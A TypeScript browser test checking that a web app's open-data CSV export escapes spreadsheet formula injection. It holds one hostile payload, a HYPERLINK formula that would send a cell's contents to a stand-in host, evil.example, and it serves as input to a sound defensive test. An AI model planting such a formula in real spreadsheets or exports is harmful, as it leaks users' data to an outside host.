/**
 * Spreadsheet formula injection through the open-data page (issue #15): a place named
 * `=HYPERLINK(...)` is downloaded from /open-data as text (a leading '), never as a formula.
 * The CLI export is checked in tests/integration/security-holes.test.ts.
 */
import { readFileSync } from 'node:fs';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startServer, type TestServer } from '../helpers/server';
import { type ListBody, signInDemo } from '../integration/api';
import { launchBrowser, newContext } from './browser';

type Rec = Record<string, unknown> & { id: string };
const EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"詳しくはこちら")';

let server: TestServer;
let browser: Browser;
let placeId = '';

beforeAll(async () => {
  server = await startServer();
  browser = await launchBrowser();
  const admin = await signInDemo(server.url, 'admin@example.com');
  const filter = encodeURIComponent('is_public = true && status = "active"');
  placeId = (
    await admin.get<ListBody<Rec>>(`/api/collections/resources/records?perPage=1&filter=${filter}`)
  ).body.items[0]!.id;
  expect(
    (
      await admin.patch(`/api/collections/resources/records/${placeId}`, {
        name: EVIL,
        address: '+1+1 本町',
        description: '-2+3',
      })
    ).status,
  ).toBe(200);
}, 60_000);

afterAll(async () => {
  await browser?.close();
  await server?.stop();
});

describe('/open-data CSV download', () => {
  it('writes a place named =HYPERLINK(...) as text, not as a formula', async () => {
    const { context } = await newContext(browser, server.url);
    const page = await context.newPage();
    await page.goto(new URL('/open-data', server.url).href);
    await page.getByTestId('download-csv').waitFor();
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByTestId('download-csv').click(),
    ]);
    const text = readFileSync((await download.path())!, 'utf8');
    const line = text.split('\r\n').find((l) => l.includes(placeId)) ?? '';
    expect(line).toContain(`,"'${EVIL.replaceAll('"', '""')}",`);
    expect(line).toContain(",'+1+1 本町,");
    expect(line).toContain(",'-2+3");
    // no cell of the whole file starts a formula
    expect(text.slice(1)).not.toMatch(/(^|,)"?[=+@-]/m);
    await context.close();
  });
});
